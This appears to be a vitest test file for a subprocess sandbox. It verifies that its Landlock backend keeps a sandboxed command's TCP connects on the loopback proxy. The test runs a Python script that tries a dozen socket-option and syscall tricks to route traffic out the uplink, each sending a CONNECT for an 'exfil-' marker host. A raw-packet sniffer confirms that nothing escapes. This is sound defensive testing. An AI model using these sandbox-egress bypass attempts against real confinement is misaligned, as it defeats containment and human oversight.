// After SO_BINDTODEVICE and SO_BINDTOIFINDEX (attack-egress-landlock-device.test.ts): the other
// socket options and binds an unprivileged program has that steer where a TCP connect's packets
// go. The supervisor connects the command's own socket to 127.0.0.1:PORT, so whatever the socket
// carries applies to that connect. Tried on the Landlock backend, each on a socket of its own,
// then the Fast Open connect (the first write in the SYN) to the proxy: IP_UNICAST_IF and
// IPV6_UNICAST_IF with the uplink's index (the IPv6 socket connecting to the mapped address),
// SO_DONTROUTE, a bind to the uplink's own address, IP_TOS, a loose source route through an
// outside address (IP_OPTIONS: the route lookup would take the first hop), a segment-routing
// header (IPV6_RTHDR type 4, unprivileged), a sticky IPV6_PKTINFO naming the uplink, SO_MARK (for
// policy routing) and IP_TRANSPARENT. Held (Linux 6.18): the source route, the mark and
// IP_TRANSPARENT need capabilities (EPERM, every capability is dropped), the bind is Landlock's
// (EACCES); the rest are taken and ignored by TCP over IPv4, and every connection reaches the
// proxy on loopback, which refuses the marker host. Nothing for 127/8, with IP options, with a
// routing header or carrying a marker leaves the uplink; a datagram the host itself sends with a
// marker is seen (the watcher works).
import { createSocket } from 'node:dgram';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSandbox, type SubprocessSandbox } from '../src/index.ts';
import { tableLookup } from './support/egress-servers.ts';
import { useLandlockBackend } from './support/fake-bwrap.ts';
import { python } from './support/helpers.ts';
import { uplink, watchUplink } from './support/uplink-watch.ts';

const device = uplink();

// What leaves DEVICE (host side, root) until stdin closes: `4:` IPv4 TCP to 127/8 or with IP
// options, `6:` IPv6 with a routing header, `m:` any frame carrying 'exfil-'.
const sniffer = String.raw`
import select, socket, sys
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); s.bind((sys.argv[1], 0))
print('ready', flush=True)
seen = set()
while True:
    ready = select.select([s, sys.stdin], [], [])[0]
    if sys.stdin in ready and sys.stdin.read(1) == '': break
    if s not in ready: continue
    f, addr = s.recvfrom(65535)
    kind, ip = f[12:14], f[14:]
    if b'exfil-' in f: seen.add('m:' + f[f.index(b'exfil-'):][:24].decode('latin1'))
    if kind == b'\x08\x00' and len(ip) >= 20 and ip[9] == 6 and (ip[16] == 127 or ip[0] & 15 > 5): seen.add('4:' + socket.inet_ntoa(ip[16:20]))
    if kind == b'\x86\xdd' and len(ip) >= 40 and ip[6] == 43: seen.add('6:' + socket.inet_ntop(socket.AF_INET6, ip[24:40]))
print(' '.join(sorted(seen)), flush=True)
`;

// The command: each option on a socket of its own, then the Fast Open connect to the proxy as
// the supervisor allows, its first write a CONNECT for a marker host, and the first answer line.
const command = String.raw`
import os, socket, struct, sys
index, address, port = int(sys.argv[1]), sys.argv[2], int(os.environ['HTTP_PROXY'].rsplit(':', 1)[1])
outside = '198.51.100.7'
def srh(s):  # IPV6_RTHDR type 4 (segment routing), one segment: fd00::99
    s.setsockopt(socket.IPPROTO_IPV6, 57, bytes([0, 2, 4, 0, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, 'fd00::99'))
tries = [
    ('ip-unicast-if', socket.AF_INET, lambda s: s.setsockopt(socket.IPPROTO_IP, 50, struct.pack('!I', index))),
    ('ipv6-unicast-if', socket.AF_INET6, lambda s: s.setsockopt(socket.IPPROTO_IPV6, 76, struct.pack('!i', index))),
    ('dontroute', socket.AF_INET, lambda s: s.setsockopt(socket.SOL_SOCKET, socket.SO_DONTROUTE, 1)),
    ('bind-uplink', socket.AF_INET, lambda s: s.bind((address, 0))),
    ('tos', socket.AF_INET, lambda s: s.setsockopt(socket.IPPROTO_IP, socket.IP_TOS, 0x10)),
    ('lsrr', socket.AF_INET, lambda s: s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([0x83, 7, 4]) + socket.inet_aton(outside) + b'\x01')),
    ('lsrr-v6-socket', socket.AF_INET6, lambda s: s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([0x83, 7, 4]) + socket.inet_aton(outside) + b'\x01')),
    ('srh', socket.AF_INET6, srh),
    ('mark', socket.AF_INET, lambda s: s.setsockopt(socket.SOL_SOCKET, 36, 1)),  # SO_MARK: policy routing
    ('transparent', socket.AF_INET, lambda s: s.setsockopt(socket.IPPROTO_IP, 19, 1)),  # IP_TRANSPARENT
    ('ipv6-pktinfo', socket.AF_INET6, lambda s: s.setsockopt(socket.IPPROTO_IPV6, 50, bytes(16) + struct.pack('=i', index))),
]
for name, family, option in tries:
    s = socket.socket(family, socket.SOCK_STREAM)
    try: option(s); told = 'set'
    except OSError as e: told = 'errno %d' % e.errno
    s.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCP_FASTOPEN_CONNECT
    s.setsockopt(socket.IPPROTO_TCP, 34, 1)  # TCP_FASTOPEN_NO_COOKIE
    s.settimeout(3)
    try:
        s.connect(('127.0.0.1', port) if family == socket.AF_INET else ('::ffff:127.0.0.1', port))
        s.send(b'CONNECT exfil-%s.test:443 HTTP/1.1\r\n\r\n' % name.encode())
        told += ', ' + (s.recv(200).split(b'\r\n')[0].decode() or 'closed')
    except socket.timeout: told += ', timeout'
    except OSError as e: told += ', errno %d' % e.errno
    print(name, told, flush=True)
    s.close()
# SO_BINDTODEVICE with high bits in level and optname: the kernel takes ints (their low words),
# the filter compares low words. x86_64 and aarch64 setsockopt numbers.
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
nr = {'x86_64': 54, 'aarch64': 208}[platform.machine()]
for name, level, optname in [('high-level', 0x100000001, 25), ('high-optname', 1, 0xffffffff00000019)]:
    s = socket.socket()
    device = ctypes.create_string_buffer(b'eth0')
    r = libc.syscall(ctypes.c_long(nr), ctypes.c_long(s.fileno()), ctypes.c_long(level), ctypes.c_long(optname), device, ctypes.c_long(5))
    print(name, 'set' if r == 0 else 'errno %d' % ctypes.get_errno(), flush=True)
`;

/** What each option does (setsockopt's answer) and what the proxy answers after. */
const expected: [string, string][] = [
  ['ip-unicast-if', 'set'],
  ['ipv6-unicast-if', 'set'],
  ['dontroute', 'set'],
  ['bind-uplink', 'errno 13'], // EACCES: Landlock grants no bind port (and the route is local)
  ['tos', 'set'],
  ['lsrr', 'errno 1'], // EPERM: a source route needs CAP_NET_RAW
  ['lsrr-v6-socket', 'errno 1'],
  ['srh', 'set'],
  ['mark', 'errno 1'], // EPERM: SO_MARK needs CAP_NET_ADMIN
  ['transparent', 'errno 1'], // EPERM: IP_TRANSPARENT needs CAP_NET_ADMIN or CAP_NET_RAW
  ['ipv6-pktinfo', 'set'],
];

describe('the Landlock backend: options that steer a connect', () => {
  let sandbox: SubprocessSandbox;
  useLandlockBackend();
  beforeAll(() => {
    sandbox = createSandbox(
      { network: { allow: ['api.test'], allowPrivate: true }, timeoutMs: 60_000 },
      { lookup: tableLookup({ 'api.test': '127.0.0.1' }) },
    );
  });
  afterAll(async () => {
    await sandbox?.close();
  });

  it('every connect reaches the proxy on loopback; nothing leaves the uplink (held)', async () => {
    expect({ uplink: device !== undefined, root: process.getuid?.() === 0 }).toEqual({
      uplink: true,
      root: true,
    });
    const watch = await watchUplink(sniffer, device!.name);
    const result = await sandbox.run(python, [
      '-c',
      command,
      String(device!.index),
      device!.address,
    ]);
    // The watcher's control: the host's own marker, out of the uplink by the default route.
    const control = createSocket('udp4');
    await new Promise((resolve) =>
      control.send('exfil-control-0123456789ab', 9, '198.51.100.7', resolve),
    );
    control.close();
    const sniffed = await watch.seen();
    expect(result.stderr).toBe('');
    expect({
      told: result.stdout,
      sniffed,
      denied: result.network?.denied.map(({ host, reason }) => `${host} ${reason}`),
      allowed: result.network?.allowed,
    }).toEqual({
      told: [
        ...expected.map(([name, set]) => `${name} ${set}, HTTP/1.1 403 Forbidden\n`),
        'high-level errno 1\n', // EPERM: seccomp, the low word is SOL_SOCKET
        'high-optname errno 1\n',
      ].join(''),
      sniffed: 'm:exfil-control-0123456789',
      denied: expected.map(([name]) => `exfil-${name}.test not-allowed`),
      allowed: [],
    });
  });
});
